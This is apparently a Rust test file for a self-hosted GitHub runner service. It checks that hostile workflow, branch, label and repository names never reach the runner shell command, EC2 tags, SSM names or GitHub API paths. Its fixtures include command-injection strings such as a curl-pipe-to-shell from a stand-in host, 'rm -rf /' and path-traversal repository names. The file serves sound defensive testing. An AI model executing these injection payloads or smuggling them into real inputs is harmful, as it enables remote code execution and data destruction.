//! Hostile values — shell metacharacters, quotes, newlines, unicode, 100 labels, very long
//! labels — in labels, repository, workflow and branch names: through the webhook (a row of its
//! table, never a panic) and through create-runner over the fakes. Nothing reaches the runner
//! command but the parameter's name and the script's location, single-quoted; EC2 tags and SSM
//! names keep to their limits by sanitising, and the job is still served.

mod common;

use std::sync::Arc;
use std::time::Duration;

use common::*;
use serde_json::{Value, json};
use sophons_core::commands::runner_commands;
use sophons_core::config::Config;
use sophons_core::create::{Backoff, CreateRunner, Outcome};
use sophons_core::fakes;
use sophons_core::job::JobMessage;
use sophons_core::names;
use sophons_core::release::RunnerRelease;
use sophons_core::webhook::{Decision, Webhook};
use tokio::time::Instant;

const QUEUE: &str = "https://sqs.us-east-1.amazonaws.com/123456789012/sophons-jobs";

const SHELL: [&str; 8] = [
    "$(curl -s evil.example | sh)",
    "`id`",
    "; rm -rf / #",
    "a && b || c & d",
    "> /etc/passwd < /dev/null",
    "$HOME ${IFS} $((1+1))",
    "*?[a-z]~",
    "x | tee /tmp/y",
];
const QUOTES: [&str; 5] = ["it's", "'", "'\\''", "\"double\" \\\"escaped\\\"", "'$(id)'"];
const CONTROL: [&str; 5] = [
    "line\nbreak",
    "carriage\r\nreturn",
    "tab\there",
    "nul\0byte",
    "\u{1b}[31mred\u{7}",
];
const UNICODE: [&str; 5] = [
    "ünïcödé",
    "🚀🔥",
    "\u{202e}txt.exe",
    "e\u{301}\u{301}\u{301}",
    "﷽ 中文 العربية",
];

struct World {
    webhook: Webhook,
    fakes: Fakes,
    create: CreateRunner,
    config: Arc<Config>,
}

fn world_with(edit: impl FnOnce(&mut Value)) -> World {
    let mut document = config_json(QUEUE);
    edit(&mut document);
    let config = Arc::new(Config::parse(&document.to_string()).unwrap());
    let fakes = Fakes::new();
    let backoff = Backoff {
        first: Duration::from_millis(5),
        max: Duration::from_millis(50),
    };
    World {
        webhook: Webhook::new(config.clone(), SECRET, fakes.queue.clone()),
        create: CreateRunner::new(config.clone(), fakes.ports()).with_backoff(backoff),
        fakes,
        config,
    }
}

fn world() -> World {
    world_with(|_| {})
}

/// Posts a signed queued delivery; answers the row and the message it enqueued, if any.
async fn deliver(world: &World, payload: &Value, delivery_id: &str) -> (Decision, Option<JobMessage>) {
    let before = world.fakes.queue.sent().len();
    let body = payload.to_string().into_bytes();
    let response = world
        .webhook
        .handle(request(&signed("workflow_job", delivery_id, &body)))
        .await;
    let decision = body_of(&response)["decision"].as_str().unwrap().to_string();
    let decision = [
        Decision::NotFound,
        Decision::MethodNotAllowed,
        Decision::TooLarge,
        Decision::Unauthorized,
        Decision::Pong,
        Decision::Ignored,
        Decision::BadRequest,
        Decision::Forbidden,
        Decision::Enqueued,
        Decision::QueueFailed,
    ]
    .into_iter()
    .find(|row| row.as_str() == decision)
    .unwrap_or_else(|| panic!("`{decision}` is not a row of the table"));
    assert_eq!(response.status(), decision.status());
    let sent = world.fakes.queue.sent();
    let message = match decision {
        Decision::Enqueued => {
            assert_eq!(sent.len(), before + 1);
            Some(JobMessage::decode(&sent[before].body).unwrap())
        }
        _ => {
            assert_eq!(sent.len(), before, "{decision:?} enqueued nothing");
            None
        }
    };
    (decision, message)
}

fn far() -> Instant {
    Instant::now() + Duration::from_secs(900)
}

/// Serves the message and checks every limit; answers the instance id.
async fn serve_safely(world: &World, message: &JobMessage, hostile: &[&str]) -> String {
    let before_launches = world.fakes.fleet.launches().len();
    let outcome = world.create.serve(&message.encode(), 1, far()).await;
    let Outcome::Served { instance_id, .. } = outcome else {
        panic!("a hostile value must not fail the job: {outcome:?}");
    };
    let parameter = names::jit_parameter(&world.config.deployment, &instance_id);

    // The command: exactly the fixed lines, their only arguments the script's location, the
    // parameter's name and the runner release GitHub named (with the template's packages),
    // single-quoted.
    let (request, _) = world.fakes.commands.sent().pop().unwrap();
    let script = &world.config.runner_script;
    let release = RunnerRelease::from_downloads(&fakes::runner_downloads_of(fakes::FAKE_RUNNER_VERSION)).unwrap();
    let mut env = release.script_env();
    env.push(("SOPHONS_PACKAGES", "git".into()));
    env.push(("SOPHONS_DOCKER", "0".into()));
    assert_eq!(
        request.commands,
        runner_commands(&script.bucket, &script.key, &parameter, &env)
    );
    for line in &request.commands {
        let (outside, quoted) = split_single_quotes(line);
        assert!(
            outside
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || " -_./=".contains(c)),
            "unquoted shell text in `{line}`: `{outside}`"
        );
        for argument in quoted {
            assert!(
                argument == parameter
                    || argument == format!("s3://{}/{}", script.bucket, script.key)
                    || env.iter().any(|(_, value)| *value == argument),
                "`{line}` quotes `{argument}`, which is neither the parameter, the script nor the release"
            );
        }
        for value in hostile.iter().filter(|v| v.len() > 3) {
            assert!(!line.contains(value), "`{value}` reached the command line `{line}`");
        }
    }
    assert!(
        request.comment.chars().count() <= 100,
        "SSM takes a 100-character comment"
    );

    // EC2 tags: keys ≤ 128, values ≤ 256 characters, no control characters.
    let launches = world.fakes.fleet.launches();
    assert!(launches.len() > before_launches);
    let tagged = world.fakes.fleet.instance(&instance_id).unwrap().tags;
    for (key, value) in launches
        .last()
        .unwrap()
        .tags
        .iter()
        .map(|(k, v)| (k, v))
        .chain(tagged.iter())
    {
        assert!(
            key.chars().count() <= 128 && !key.starts_with("aws:"),
            "tag key `{key}`"
        );
        assert!(
            value.chars().count() <= 256,
            "tag {key} is {} characters",
            value.chars().count()
        );
        assert!(!value.chars().any(char::is_control), "tag {key} = {value:?}");
    }

    // SSM: names of a-zA-Z0-9_.-/, at most 1011 characters and 15 levels.
    for name in world.fakes.parameters.names() {
        assert!(
            name.len() <= 1011 && name.matches('/').count() <= 15,
            "parameter `{name}`"
        );
        assert!(
            name.chars().all(|c| c.is_ascii_alphanumeric() || "_.-/".contains(c)),
            "parameter `{name}`"
        );
    }

    // GitHub: the runner registers with 1 to 100 labels.
    let runner = world
        .fakes
        .github
        .runners()
        .into_iter()
        .find(|r| r.runner.name == names::runner_name(&world.config.deployment, &instance_id))
        .unwrap();
    assert!(
        (1..=100).contains(&runner.labels.len()),
        "{} labels",
        runner.labels.len()
    );
    for label in &runner.labels {
        assert!(
            !label.is_empty() && label.len() <= 256 && !label.contains(','),
            "label `{label}`"
        );
    }
    instance_id
}

/// A command line's text outside single quotes (with `\'` kept as the escaped quote it is), and
/// the single-quoted arguments, joined across `'\''`.
fn split_single_quotes(line: &str) -> (String, Vec<String>) {
    let mut outside = String::new();
    let mut arguments = Vec::new();
    let mut current: Option<String> = None;
    let mut chars = line.chars().peekable();
    let mut in_quotes = false;
    while let Some(c) = chars.next() {
        match (in_quotes, c) {
            (true, '\'') => in_quotes = false,
            (true, c) => current.get_or_insert_default().push(c),
            (false, '\'') => {
                in_quotes = true;
                current.get_or_insert_default();
            }
            (false, '\\') if chars.peek() == Some(&'\'') => {
                chars.next();
                current.get_or_insert_default().push('\'');
            }
            (false, c) => {
                if let Some(argument) = current.take() {
                    arguments.push(argument);
                }
                outside.push(c);
            }
        }
    }
    assert!(!in_quotes, "an unterminated quote in `{line}`");
    arguments.extend(current);
    (outside, arguments)
}

/// A queued delivery of ours carrying `value` in the workflow, job, branch and step names.
fn named(value: &str, job_id: u64) -> Value {
    let mut payload = queued_payload(&["self-hosted", "template_cpu"]);
    payload["workflow_job"]["id"] = json!(job_id);
    payload["workflow_job"]["workflow_name"] = json!(value);
    payload["workflow_job"]["name"] = json!(value);
    payload["workflow_job"]["head_branch"] = json!(value);
    payload["workflow_job"]["html_url"] = json!(format!("https://github.com/my-org/app/{value}"));
    payload
}

/// A message as a redrive or an older webhook might have written it, `value` in every name.
fn message_naming(value: &str, job_id: u64) -> JobMessage {
    JobMessage {
        delivery_id: format!("{value}-{job_id}"),
        repository: format!("my-org/{value}"),
        name: value.into(),
        labels: vec!["self-hosted".into(), value.into(), "template_cpu".into()],
        workflow_name: value.into(),
        job_name: value.into(),
        job_url: value.into(),
        created_at: value.into(),
        received_at: value.into(),
        ..job_message(job_id, "template_cpu")
    }
}

async fn through_both_paths(values: &[&str]) {
    let world = world();
    for (n, value) in values.iter().enumerate() {
        let (decision, message) = deliver(&world, &named(value, n as u64 + 1), &format!("delivery-{n}")).await;
        assert_eq!(decision, Decision::Enqueued, "{value:?}");
        let message = message.unwrap();
        assert_eq!(message.workflow_name, *value, "the name travels as data");
        serve_safely(&world, &message, values).await;
        serve_safely(&world, &message_naming(value, 1000 + n as u64), values).await;
    }
}

#[tokio::test]
async fn shell_metacharacters_in_names_travel_as_data_and_never_reach_the_runner_command() {
    through_both_paths(&SHELL).await;
}

#[tokio::test]
async fn quotes_in_names_never_break_out_of_the_single_quoted_command_arguments() {
    through_both_paths(&QUOTES).await;
}

#[tokio::test]
async fn quotes_and_metacharacters_in_the_script_location_stay_inside_one_quoted_argument() {
    let world = world_with(|c| {
        c["runner_script"] = json!({ "bucket": "sophons-scripts", "key": "it's/$(id)/`x`;\"runner\".sh" })
    });
    let message = message_naming("app", 1);
    serve_safely(&world, &message, &[]).await;
    let (request, _) = world.fakes.commands.sent().pop().unwrap();
    assert!(
        request.commands[2].contains(r"'s3://sophons-scripts/it'\''s/$(id)/`x`;"),
        "{:?}",
        request.commands
    );
}

#[tokio::test]
async fn newlines_and_control_characters_are_dropped_from_ec2_tag_values() {
    through_both_paths(&CONTROL).await;
    let world = world();
    let instance_id = serve_safely(&world, &message_naming("a\nb\u{0}c", 1), &[]).await;
    let instance = world.fakes.fleet.instance(&instance_id).unwrap();
    assert_eq!(instance.tag("sophons:repository"), Some("my-org/abc"));
}

#[tokio::test]
async fn unicode_names_are_served_and_ec2_tag_values_are_cut_to_256_characters() {
    through_both_paths(&UNICODE).await;
    let world = world();
    let long = "🚀".repeat(300);
    let instance_id = serve_safely(&world, &message_naming(&long, 1), &[]).await;
    let repository = world.fakes.fleet.instance(&instance_id).unwrap().tags["sophons:repository"].clone();
    assert_eq!(repository.chars().count(), 256);
    assert!(format!("my-org/{long}").starts_with(&repository));
}

#[tokio::test]
async fn ssm_parameter_names_keep_to_ssms_charset_whatever_the_instance_id() {
    for id in ["i-0abc", "i-0a b/$(x)", "i-'\"\n", "i-ünï🚀", "i-../../etc"] {
        let name = names::jit_parameter("sophons", id);
        assert!(name.starts_with("/sophons/jit/"), "{name}");
        assert_eq!(
            name.matches('/').count(),
            3,
            "{name} stays one level below the JIT path"
        );
        assert!(
            name.chars().all(|c| c.is_ascii_alphanumeric() || "_.-/".contains(c)),
            "{name}"
        );
    }
}

#[tokio::test]
async fn a_job_asking_for_100_labels_a_template_holds_is_served_with_1_to_100_runner_labels() {
    let world = world();
    let variants = [
        "self-hosted",
        "SELF-HOSTED",
        "linux",
        "Linux",
        "LINUX",
        "x64",
        "X64",
        "template_cpu",
    ];
    let labels: Vec<&str> = (0..100).map(|i| variants[i % variants.len()]).collect();
    let (decision, message) = deliver(&world, &queued_payload(&labels), "d-100").await;
    assert_eq!(decision, Decision::Enqueued);
    let message = message.unwrap();
    assert_eq!(message.labels.len(), 100);
    serve_safely(&world, &message, &[]).await;
    assert_eq!(
        world.fakes.github.runners()[0].labels,
        vec!["self-hosted", "template_cpu", "linux", "x64"]
    );
}

#[tokio::test]
async fn a_job_asking_for_100_or_more_labels_no_template_holds_is_ignored_not_failed() {
    let world = world();
    for count in [100, 101, 1000] {
        let mut labels: Vec<String> = (1..count).map(|i| format!("label-{i}")).collect();
        labels.insert(0, "self-hosted".into());
        let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
        let (decision, _) = deliver(&world, &queued_payload(&labels), "d-many").await;
        assert_eq!(decision, Decision::Ignored, "{count} labels");
    }
}

#[tokio::test]
async fn a_very_long_label_is_ignored_and_one_over_the_body_limit_is_413() {
    let world = world();
    let long = "x".repeat(10_000);
    let (decision, _) = deliver(&world, &queued_payload(&["self-hosted", &long]), "d-long").await;
    assert_eq!(decision, Decision::Ignored);
    let longer = "é".repeat(40_000);
    let (decision, _) = deliver(&world, &queued_payload(&["self-hosted", &longer]), "d-longer").await;
    assert_eq!(decision, Decision::TooLarge);
    assert!(world.fakes.queue.sent().is_empty());
}

#[tokio::test]
async fn hostile_labels_are_ignored_per_the_table_and_never_panic() {
    let world = world();
    for value in SHELL.iter().chain(&QUOTES).chain(&CONTROL).chain(&UNICODE) {
        let (decision, _) = deliver(&world, &queued_payload(&["self-hosted", value]), "d-label").await;
        assert_eq!(decision, Decision::Ignored, "{value:?}");
        // Labels that are not strings at all.
        let mut payload = queued_payload(&["self-hosted"]);
        payload["workflow_job"]["labels"] = json!([value, 1, null, {"a": value}]);
        let (decision, _) = deliver(&world, &payload, "d-label").await;
        assert_eq!(decision, Decision::BadRequest, "{value:?}");
    }
}

/// Defect: the webhook checked `repository.owner.login` but spliced `repository.full_name`
/// unchecked into GitHub API paths (`/repos/{full_name}/actions/...`), so a full name such as
/// `my-org/app/../../orgs/other` pointed the job-status and (repo scope) registration calls at
/// another resource, and `other-org/app` under an owner login of `my-org` registered a runner
/// in another organisation's repository.
#[tokio::test]
async fn a_repository_full_name_that_is_not_owner_slash_name_never_reaches_github_api_paths() {
    let world = world_with(|c| c["github"]["scope"] = json!("repo"));
    for full_name in [
        "my-org/app/../../orgs/other",
        "my-org/..",
        "my-org/.",
        "my-org/",
        "my-org",
        "other-org/app",
        "my-org/app?per_page=1",
        "my-org/app#x",
        "my-org/a b",
        "my-org/$(id)",
        "my-org/app\n",
        "my-org/ünï",
    ] {
        let mut payload = queued_payload(&["self-hosted", "template_cpu"]);
        payload["repository"]["full_name"] = json!(full_name);
        let (decision, _) = deliver(&world, &payload, "d-repo").await;
        assert_eq!(decision, Decision::Forbidden, "{full_name:?}");
    }
    for full_name in ["my-org/app", "MY-ORG/App.rs", "my-org/a_b-c.d", "my-org/.github"] {
        let mut payload = queued_payload(&["self-hosted", "template_cpu"]);
        payload["repository"]["full_name"] = json!(full_name);
        let (decision, message) = deliver(&world, &payload, "d-repo").await;
        assert_eq!(decision, Decision::Enqueued, "{full_name:?}");
        assert_eq!(message.unwrap().repository, full_name);
    }
}
